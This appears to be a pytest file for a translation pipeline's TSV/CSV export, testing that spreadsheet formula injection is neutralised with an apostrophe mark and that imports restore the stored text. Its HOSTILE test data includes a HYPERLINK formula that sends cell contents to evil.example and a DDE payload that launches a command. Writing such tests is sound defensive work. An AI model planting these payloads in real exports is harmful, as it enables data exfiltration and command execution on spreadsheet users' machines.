"""TSV and CSV exports never hand a spreadsheet a formula, and imports give every cell back.

LibreOffice and Excel are not installed here, so the tests read the exported bytes with the
csv module, as a spreadsheet splits them into cells, and check what each cell starts with.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from pipeline.burmese import normalise_text
from pipeline.cli import app
from pipeline.formats.table import _NUMBER, neutralise, restore
from pipeline.ingest import read_article
from pipeline.records import Origin, State, TranslationDraft
from pipeline.store import open_store

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''",
    "'plain",
    "plain =1+1",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _store_with_hostile_text(folder: Path, store: Path) -> Path:
    """Ingest an article whose first source is a formula and review hostile translations."""
    article = folder / "a.txt"
    sources = ["=1+1 is two.", *(f"Paragraph {n}." for n in range(1, len(HOSTILE)))]
    article.write_text("\n\n".join(sources) + "\n", encoding="utf-8")
    with open_store(str(store)) as db:
        doc = db.ingest(read_article(article)).document
        segments = db.segments(doc.id)
        db.write_translations(
            [
                TranslationDraft(seg.id, "my", text, State.REVIEWED, Origin.HUMAN, author="=x()")
                for seg, text in zip(segments, HOSTILE, strict=True)
            ]
        )
    return article


def _export(store: Path, fmt: str, out: Path, *extra: str) -> list[list[str]]:
    """Export the store's table and return its cells as a spreadsheet would split them."""
    args = ["export", "--format", fmt, "--to", "my", "-o", str(out), "--store", str(store)]
    result = CliRunner().invoke(app, [*args, *extra])
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter="\t" if fmt == "tsv" else ","))


@pytest.mark.parametrize("fmt", ["tsv", "csv"])
def test_no_exported_cell_starts_a_formula(fmt: str, tmp_path: Path) -> None:
    """Every cell starting with = + - @ tab CR (or ' and one of them) is written after a '."""
    store = tmp_path / "s.db"
    _store_with_hostile_text(tmp_path, store)
    rows = _export(store, fmt, tmp_path / f"out.{fmt}")
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    header = rows[0]
    targets = [row[header.index("target:my")] for row in rows[1:]]
    assert targets == [
        f"'{t}" if t.startswith((*FORMULA_STARTS, "''", "'=")) else t for t in HOSTILE
    ]
    assert rows[1][header.index("source")] == "'=1+1 is two."
    assert {row[header.index("author:my")] for row in rows[1:]} == {"'=x()"}
    raw = (tmp_path / f"out.{fmt}").read_bytes()
    assert b"'=cmd|' /C calc'!A0" in raw and b"'=HYPERLINK(" in raw


@pytest.mark.parametrize("fmt", ["tsv", "csv"])
def test_raw_export_writes_cells_as_stored(fmt: str, tmp_path: Path) -> None:
    """With --raw the cells are the stored text, formulas included."""
    store = tmp_path / "s.db"
    _store_with_hostile_text(tmp_path, store)
    rows = _export(store, fmt, tmp_path / f"out.{fmt}", "--raw")
    header = rows[0]
    assert [row[header.index("target:my")] for row in rows[1:]] == list(HOSTILE)


@pytest.mark.parametrize("fmt", ["tsv", "csv"])
def test_review_import_removes_the_mark(fmt: str, tmp_path: Path) -> None:
    """A marked export imported into a store with the same article gives back every text exactly."""
    first, second = tmp_path / "first.db", tmp_path / "second.db"
    article = _store_with_hostile_text(tmp_path, first)
    out = tmp_path / f"out.{fmt}"
    _export(first, fmt, out)
    with open_store(str(second)) as db:
        doc = db.ingest(read_article(article)).document
    args = ["review", "import", str(out), "--reviewer", "Thida", "--store", str(second)]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    with open_store(str(second)) as db:
        got = db.translations(doc.id, "my")
        texts = [got[seg.id].text for seg in db.segments(doc.id)]
    # Review import turns a tab in a translation into a space, as it does with any text.
    assert texts == [normalise_text(text, "my").text for text in HOSTILE]
    assert [t for t, h in zip(texts, HOSTILE, strict=True) if t != h] == [" =1+1"]


def test_tm_import_of_a_table_removes_the_mark(tmp_path: Path) -> None:
    """tm import of a marked table stores each translation as it was, not with its mark."""
    first, second = tmp_path / "first.db", tmp_path / "second.db"
    _store_with_hostile_text(tmp_path, first)
    out = tmp_path / "out.tsv"
    _export(first, "tsv", out)
    result = CliRunner().invoke(app, ["tm", "import", str(out), "--store", str(second)])
    assert result.exit_code == 0, result.output
    with open_store(str(second)) as db:
        entries = list(db.memory_entries(("en", "my")))
    assert sorted(e.target for e in entries) == sorted(HOSTILE)
    assert {e.source for e in entries} >= {"=1+1 is two."}
    assert {e.changed_by for e in entries} == {"=x()"}


def test_export_help_documents_raw() -> None:
    """export --help says what the mark is and how --raw turns it off."""
    result = CliRunner().invoke(app, ["export", "--help"], env={"COLUMNS": "200"})
    assert "--raw" in result.output and "OWASP" in result.output


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r0.1aé\n\"")) | st.text())
def test_mark_round_trips_and_never_leaves_a_formula(cell: str) -> None:
    """restore(neutralise(cell)) is cell; a written cell starts like a formula only as a number."""
    written = neutralise(cell)
    assert restore(written) == cell
    assert not written.startswith(FORMULA_STARTS) or _NUMBER.fullmatch(written)
